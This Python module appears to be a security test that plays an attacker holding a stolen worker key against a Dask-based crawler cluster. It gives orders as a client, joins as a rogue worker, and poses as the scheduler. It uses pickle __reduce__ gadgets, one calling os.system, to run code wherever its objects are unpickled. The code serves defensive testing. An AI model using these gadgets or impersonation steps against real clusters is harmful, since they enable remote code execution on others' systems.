"""A stolen key in the hands of somebody with plain Dask: `python -m tests.adversary.rogue WHAT ADDRESS KEYS NOTE`."""

from __future__ import annotations

import asyncio
import os
import sys
from pathlib import Path
from typing import Any

from crawler.distributed.cluster.keys import Keys


class Evil:
    """Whoever opens its pickle writes the note."""

    def __init__(self, note: str) -> None:
        self.note = note

    def __reduce__(self) -> tuple[Any, ...]:
        return Path(self.note).write_text, ("opened",)


def touch(note: str) -> None:
    Path(note).write_text("ran")


def as_client(address: str, keys: Keys, note: str) -> None:
    """Give orders with a worker's key."""
    from distributed import Client

    client = Client(address, security=keys.security("worker").__class__(**_as_client(keys)), timeout=5)
    client.run_on_scheduler(touch, note)
    client.run(touch, note)
    client.submit(touch, note).result(timeout=5)


def _as_client(keys: Keys) -> dict[str, Any]:
    own = str(keys.file("worker"))
    authority = str(keys.folder / "ca.pem")
    return {
        "require_encryption": True,
        "tls_ca_file": authority,
        "tls_client_cert": own,
        "tls_client_key": own,
    }


async def as_worker(address: str, keys: Keys, note: str) -> None:
    """Join as a worker, and answer every task with an object whose pickle runs code."""
    from distributed import Worker

    from crawler.distributed.engine import answers

    def evil(task: object, item: object) -> object:
        return Evil(note)

    answers.answer = evil  # type: ignore[assignment]
    async with Worker(address, nthreads=1, security=keys.security("worker"), host="127.0.0.1") as worker:
        await worker.finished()


class EvilError(Exception):
    def __init__(self, note: str) -> None:
        super().__init__(note)
        self.note = note

    def __reduce__(self) -> tuple[Any, ...]:
        """Appends the number of the process that opens the pickle."""
        return os.system, (f"echo $PPID >> {self.note}",)


async def as_raiser(address: str, keys: Keys, note: str) -> None:
    """Join as a worker, and raise for every task an exception whose pickle runs code."""
    from distributed import Worker

    from crawler.distributed.engine import answers

    def evil(task: object, item: object) -> object:
        raise EvilError(note)

    answers.answer = evil  # type: ignore[assignment]
    async with Worker(address, nthreads=1, security=keys.security("worker"), host="127.0.0.1") as worker:
        await worker.finished()


async def as_sender(address: str, keys: Keys, note: str) -> None:
    """Send the scheduler messages that hold a pickle, as a worker that joins would."""
    from distributed.comm import connect
    from distributed.protocol.serialize import ToPickle, to_serialize

    for message in (
        {"op": "identity", "more": ToPickle(Evil(note))},
        {
            "op": "register-worker",
            "address": "tls://127.0.0.1:1",
            "extra": ToPickle(Evil(note)),
            "reply": True,
        },
        {"op": "log_event", "topic": "warn", "msg": to_serialize(Evil(note))},
        {"op": "run_function", "function": Evil(note), "args": (), "kwargs": {}},
    ):
        comm = await connect(address, **keys.security("worker").get_connection_args("worker"))
        try:
            await comm.write(message)
            await asyncio.wait_for(comm.read(), 2)
        except (OSError, TimeoutError, TypeError):
            continue
        finally:
            comm.abort()


async def as_scheduler(address: str, keys: Keys, note: str) -> None:
    """Pose as the scheduler with a worker's key."""
    from distributed import Scheduler, Security

    own, authority = str(keys.file("worker")), str(keys.folder / "ca.pem")
    security = Security(
        require_encryption=True, tls_ca_file=authority, tls_scheduler_cert=own, tls_scheduler_key=own,
        tls_client_cert=own, tls_client_key=own,
    )  # fmt: skip
    async with Scheduler(
        host="127.0.0.1", port=0, protocol="tls", security=security, dashboard=False
    ) as scheduler:
        sys.stdout.write(f"{scheduler.address}\n")
        sys.stdout.flush()
        await scheduler.finished()


if __name__ == "__main__":
    what, address, folder, note = sys.argv[1:]
    found = globals()[what](address, Keys(Path(folder)), note)
    if found is not None:
        asyncio.run(found)
